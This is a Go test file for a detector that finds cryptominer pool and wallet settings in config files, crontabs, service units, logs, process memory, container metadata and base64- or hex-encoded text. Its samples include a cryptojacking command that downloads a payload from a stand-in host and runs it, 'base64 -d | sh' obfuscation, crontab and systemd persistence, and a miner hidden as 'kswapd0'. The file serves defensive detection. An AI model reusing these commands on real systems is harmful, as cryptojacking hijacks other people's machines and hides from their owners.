package config

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"os"
	"strings"
	"testing"
)

const addr = "4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL"

func TestParse(t *testing.T) {
	for _, c := range []struct {
		name, in string
		want     int
	}{
		{"small", `{"pools":[{"url":"203.0.113.77:3333","user":"` + addr + `"}],"donate-level":1}`, 1},
		{"as people write it", "\xef\xbb\xbf// settings\n{ /* x */ \"pools\": [ {\"url\": \"stratum+ssl://pool.invalid:443\", \"user\": \"web, // 1\", \"rig-id\": \"a\",}, ], }", 1},
		{"wallet alone", `{"pools":[{"url":"203.0.113.77:3333","user":"` + addr + `.w1"}]}`, 1},
		{"benign: database pools", `{"pools":[{"url":"postgres://db:5432/x","user":"app"}],"max":10}`, 0},
		{"benign: no user", `{"pools":[{"url":"http://x:1"}],"algo":"x"}`, 0},
		{"not JSON", `"pools" is a word`, 0},
	} {
		if got := Parse([]byte(c.in)); len(got) != c.want {
			t.Errorf("%s: %+v", c.name, got)
		}
	}
	got := Parse([]byte(`{"pools":[{"url":"203.0.113.77:3333","user":"` + addr + `.w1"}],"donate-level":1}`))[0]
	if got.Host != "203.0.113.77" || got.Port != "3333" || got.Wallet != addr || got.Worker != "w1" || got.Coin != "monero" || got.Donate != "1" {
		t.Errorf("%+v", got)
	}
}

func TestCommandLine(t *testing.T) {
	if c, ok := CommandLine("/tmp/.x/kswapd0 -o 203.0.113.77:3333 -u " + addr + " -p x --tls"); !ok || c.Host != "203.0.113.77" || c.Wallet != addr {
		t.Errorf("%+v %v", c, ok)
	}
	if c, ok := CommandLine("curl -s http://203.0.113.77/x -o /tmp/x; /tmp/x -o 203.0.113.77:3333 -u " + addr + " -p x"); !ok || c.Pool != "203.0.113.77:3333" {
		t.Errorf("behind a download: %+v %v", c, ok)
	}
	for _, benign := range []string{"curl -o /tmp/out http://x", "sort -o out -u in", "gcc -o prog x.c"} {
		if c, ok := CommandLine(benign); ok {
			t.Errorf("%q is taken for %+v", benign, c)
		}
	}
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// The same pool and wallet in all the places where miners read them from, and
// what must not be taken for it.
func TestFind(t *testing.T) {
	command := "/tmp/.x/kswapd0 -o 203.0.113.77:3333 -u " + addr + ".w7 -p x -a rx/0 --donate-level 1 --tls --proxy=198.51.100.4:1080"
	esc := ""
	for _, c := range []byte("run -o 203.0.113.77:3333 -u " + addr) {
		esc += fmt.Sprintf("\\x%02x", c)
	}
	for _, c := range []struct {
		name, in       string
		binary         bool
		found, encoded string
	}{
		{"XMRig", `{"pools":[{"url":"203.0.113.77:3333","user":"` + addr + `"}],"donate-level":1}`, false, InFile, ""},
		{"xmr-stak", "/* pools */ \"pool_list\" :\n[ {\"pool_address\" : \"203.0.113.77:3333\", \"wallet_address\" : \"" + addr + "\", \"rig_id\" : \"\", },\n],\n\"currency\" : \"monero\",\n", false, InFile, ""},
		{"keys with escapes", `{"p\u006fols":[{"url":"203.0.113.77:3333","u\u0073er":"` + addr + `"}],"donate-level":1}`, false, InFile, ""},
		{"cpuminer", "{\n\"url\" : \"stratum+tcp://203.0.113.77:3333\",\n\"user\" : \"" + addr + "\",\n\"pass\" : \"x\",\n\"algo\" : \"cryptonight\",\n}", false, InFile, ""},
		{"here-document", "#!/bin/sh\ncat > c.json <<E\n{\"pools\":[{\"url\":\"203.0.113.77:3333\",\"user\":\"" + addr + "\",\"pass\":\"x\"}]}\nE\n", false, InAssignments, ""},
		{"string of a program", `var c = "{\"pools\":[{\"url\":\"203.0.113.77:3333\",\"user\":\"` + addr + `\"}]}";`, false, InAssignments, ""},
		{"dict of Python", "c = {'pools': [{'url': '203.0.113.77:3333', 'user': '" + addr + "', 'tls': False}]}\n", false, InAssignments, ""},
		{"variables of a container", `{"ID":"a","Config":{"Env":["PATH=/bin","POOL=203.0.113.77:3333","WALLET=` + addr + `"],"Image":"x"}}`, false, InAssignments, ""},
		{"unit", "[Service]\nExecStart=" + command + "\nRestart=always\n", false, InCommand, ""},
		{"crontab", "* * * * * root " + command + "\n", false, InCommand, ""},
		{"log", "Jan  2 03:04:05 web CRON[77]: (root) CMD (" + command + ")\n", false, InCommand, ""},
		{"quoted", `nohup ./sh --url "203.0.113.77:3333" --user "` + addr + `" &`, false, InCommand, ""},
		{"URL with a user", "./ethminer -P stratum+ssl://" + addr + ".w7@203.0.113.77:3333\n", false, InCommand, ""},
		{"memory of a process", "\x00\x00./kswapd0\x00-o\x00203.0.113.77:3333\x00-u\x00" + addr + "\x00\x00HOME=/\x00", true, InCommand, ""},
		{"heap of XMRig", "\x00\x02{ \x00\x10\"pools\":[{\"algo\":\"rx/0\",\"url\":\"203.0.113.77:3333\",\"user\":\"" + addr + ".w7\",\"pass\":\"x\",}],\x00", true, InFile, ""},
		{"container", `{"State":{"Running":true},"Path":"/app/run","Args":["-o","203.0.113.77:3333","-u","` + addr + `","-k"],"Name":"/x"}`, false, InCommand, ""},
		{"environment", "POOL_URL=203.0.113.77:3333\nWALLET=" + addr + "\nWORKER=w7\n", false, InAssignments, ""},
		{"YAML", "env:\n  - pool: \"203.0.113.77:3333\"\n    wallet: " + addr + "\n", false, InAssignments, ""},
		{"INI", "[RandomX]\nwallet=" + addr + "\nrigName = w7\npool1 = 203.0.113.77:3333\n", false, InAssignments, ""},
		{"strings of a program", "\x7fELF\x00\x01stratum+tcp://203.0.113.77:3333\x00" + strings.Repeat("\x00\x02text\x00", 2000) + addr + "\x00", true, InText, ""},
		{"base64", "echo " + b64(command) + " | base64 -d | sh\n", false, InCommand, "base64"},
		{"base64 behind a name", "x=/" + b64(" "+command) + "\n", false, InCommand, "base64"},
		{"base64 of base64", "echo " + b64("echo "+b64(command)+" | base64 -d") + "\n", false, InCommand, "base64, base64"},
		{"three times", "a " + b64("b "+b64("c "+b64(command))) + "\n", false, InCommand, "base64, base64, base64"},
		{"hexadecimal", "printf " + hex.EncodeToString([]byte(command)) + " | xxd -r -p\n", false, InCommand, "hex"},
		{"hexadecimal of base64", "p=" + hex.EncodeToString([]byte(b64(command))) + "\n", false, InCommand, "hex, base64"},
		{"escapes", "printf '" + esc + "'\n", false, InCommand, "hex"},
		{"base64 in a program", "\x7fELF\x00" + b64(command) + "\x00", true, InCommand, "base64"},
	} {
		got := Find([]byte(c.in), !c.binary, 10)
		if len(got) != 1 {
			t.Errorf("%s: %d configurations: %+v", c.name, len(got), got)
			continue
		}
		g := got[0]
		if g.Host != "203.0.113.77" || g.Port != "3333" || g.Wallet != addr || g.Found != c.found || g.Decoded != c.encoded {
			t.Errorf("%s: %+v", c.name, g)
		}
		if strings.Contains(c.in, command) && (g.Worker != "w7" || g.Algo != "rx/0" || g.Donate != "1" || !g.TLS || g.Proxy != "198.51.100.4:1080") {
			t.Errorf("%s: %+v", c.name, g)
		}
		if c.encoded == "" && !strings.HasPrefix(c.in[g.Offset:], g.Pool) && !strings.HasPrefix(c.in[g.Offset:], g.Wallet) {
			t.Errorf("%s: at %d stands neither the pool nor the wallet", c.name, g.Offset)
		}
	}
	for name, in := range map[string]string{
		"four times encoded":  b64("b " + b64("c "+b64("d "+b64(command)))),
		"a changed address":   "WALLET=" + strings.Replace(addr, "Nfc8", "Nfc9", 1),
		"downloads":           "curl -o /tmp/x https://example.invalid:8443/x && sort -o a -u b\n",
		"a service":           `{"url":"https://api.example.invalid:8443/v1","user":"app","pass":"x"}`,
		"a data base":         "c = {'url': 'postgres://db:5432/x', 'user': 'app'}\n",
		"variables":           `{"Config":{"Env":["POOL=db:5432","WALLET=none"]}}`,
		"other pools":         "DB_POOL=10\nPOOL_URL=postgres://db:5432\n",
		"a certificate":       "-----BEGIN CERTIFICATE-----\n" + b64(strings.Repeat("\x30\x82\x01\x99abc", 100)) + "\n",
		"words of the matter": "Set --url to stratum+tcp://HOST and --user to your wallet",
	} {
		if got := Find([]byte(in), true, 10); len(got) != 0 {
			t.Errorf("%s: %+v", name, got)
		}
	}
	// A wallet alone is a record, not more.
	got := Find([]byte("Donations: "+addr+"\n"), true, 10)
	if len(got) != 1 || got[0].Pool != "" || got[0].Found != InText {
		t.Errorf("a wallet alone: %+v", got)
	}
}

func TestFindBounded(t *testing.T) {
	var b bytes.Buffer
	for i := range 20_000 {
		fmt.Fprintf(&b, "stratum+tcp://198.51.100.%d:%d %s\n", i%256, i, b64(fmt.Sprintf("stratum+tcp://198.51.100.9:%d and so on", i)))
	}
	if got := Find(b.Bytes(), true, 32); len(got) > 32 {
		t.Errorf("%d configurations", len(got))
	}
}

func FuzzConfig(f *testing.F) {
	f.Add([]byte(`{"pools":[{"url":"a:1","user":"b",}],"algo":"x"} // `), true)
	f.Add([]byte(`"pool_list" : [ {"pool_address" : "a:1", "wallet_address" : "b"}, ],`), true)
	f.Add([]byte("x -o 203.0.113.77:3333 -u "+addr+"\n"+b64("stratum+tcp://203.0.113.77:3333 -u "+addr)), false)
	f.Fuzz(func(t *testing.T, b []byte, text bool) {
		for _, c := range Find(b, text, 10) {
			if c.Offset < 0 || c.Offset > len(b) {
				t.Fatalf("%+v is not in %d bytes", c, len(b))
			}
			c.Record()
		}
	})
}

func BenchmarkFind(b *testing.B) {
	prog, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		b.Skip(err)
	}
	b.SetBytes(int64(len(prog)))
	for b.Loop() {
		Find(prog, false, 32)
	}
}
